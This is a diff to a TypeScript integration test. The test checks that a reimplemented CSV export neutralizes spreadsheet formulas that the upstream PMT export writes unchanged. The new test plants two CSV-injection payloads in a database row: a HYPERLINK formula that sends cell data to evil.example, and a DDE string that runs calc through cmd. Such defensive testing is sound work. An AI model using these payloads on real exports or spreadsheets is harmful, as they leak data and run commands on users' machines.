@@ -19,6 +19,7 @@ import { compatUnavailable, startPostgisCluster, type PostgisCluster } from "../
 import { SmtpSink } from "../harness/smtp.js";
 import { until } from "../harness/wait.js";
 import { startTestWorker } from "../harness/worker.js";
+import { neutralizeFormula } from "../../src/exports/csv.js";
 import { parseCsv } from "../exports/csv-parse.js";
 import { createUpstreamCsv, loadUpstream } from "./upstream.js";
 
@@ -167,6 +168,11 @@ afterAll(async () => {
   if (outDir) fs.rmSync(outDir, { recursive: true, force: true });
 });
 
+/** PMT's parsed CSV as ours writes it with the default EXPORT_CSV_FORMULA_PREFIX (a deliberate difference). */
+function protect(records: string[][]): string[][] {
+  return records.map((r) => r.map((cell) => neutralizeFormula(cell, "'")));
+}
+
 /** The filters of ours, as pmt_filter_csv builds them. */
 function ourSelectionSql(): string {
   return `select project_id, string_agg(activity_id::text, ',' order by activity_id) as a_ids
@@ -246,7 +252,8 @@ describe.skipIf(!!unavailable)("PMT 2.0.8.51, loaded unchanged", () => {
     let validated = 0;
     for (const { combo, i, pmt } of expected) {
       if (!pmt) continue;
-      const original = parseCsv(fs.readFileSync(path.join(outDir, `csv-${i}@example.org_pmt_compat.csv`), "utf8"), { lf: true });
+      // PMT's records as they read with the deliberate CSV-injection prefix (EXPORT_CSV_FORMULA_PREFIX, on by default).
+      const original = protect(parseCsv(fs.readFileSync(path.join(outDir, `csv-${i}@example.org_pmt_compat.csv`), "utf8"), { lf: true }));
       const ours = parseCsv(mailTo(`csv-${i}@example.org`));
       expect({ combo: combo.name, records: ours }).toEqual({ combo: combo.name, records: original });
 
@@ -297,6 +304,30 @@ describe.skipIf(!!unavailable)("PMT 2.0.8.51, loaded unchanged", () => {
         code: "22023",
         message: "end_date: 2010-01-01 is before start_date 2014-01-01",
       });
+    });
+
+    it("puts a ' before cells a spreadsheet would run as formulas, where PMT wrote them as they were", async () => {
+      const { rows } = await pool.query("select min(activity_id) as id from pmt_jobs.filter_activities(pmt_jobs.check_filters('{}'))");
+      const id = rows[0].id as number;
+      const before = (await pool.query("select title, description from public.activity where activity_id = $1", [id])).rows[0];
+      const title = `=HYPERLINK("http://evil.example/?"&A1,"Details")`;
+      const description = "-2+3+cmd|' /C calc'!A0";
+      await pool.query("update public.activity set title = $2, description = $3 where activity_id = $1", [id, title, description]);
+      try {
+        const email = "formula@example.org";
+        expect((await pool.query("select upstream.pmt_filter_csv('', '', '', null, null, $1) as ok", [email])).rows[0].ok).toBe(true);
+        expect((await pool.query("select pmt_filter_csv('', '', '', null, null, $1) as ok", [email])).rows[0].ok).toBe(true);
+        worker ??= await startTestWorker(url, { env: { SMTP_URL: smtp.url, LOG_LEVEL: "warn" } });
+        const mail = await until(async () => smtp.messages.find((m) => (m.to as { text: string }).text === email), "the export with formulas to be mailed", 120_000);
+        const record = (records: string[][]) => records.find((r) => r[1] === String(id) && r[3]!.includes("cmd|")) ?? [];
+        const pmt = record(parseCsv(fs.readFileSync(path.join(outDir, `${email}_pmt_compat.csv`), "utf8"), { lf: true }));
+        const ours = record(parseCsv(mail.attachments[0]!.content.toString("utf8")));
+        expect(pmt.slice(2, 4)).toEqual([title, description]);
+        expect(ours.slice(2, 4)).toEqual([`'${title}`, `'${description}`]);
+        expect(ours.slice(4)).toEqual(pmt.slice(4)); // coordinates, budgets and dates with a minus are data: unchanged
+      } finally {
+        await pool.query("update public.activity set title = $2, description = $3 where activity_id = $1", [id, before.title, before.description]);
+      }
     });
 
     it("reads the live tables where PMT reads its lookups as last refreshed", async () => {
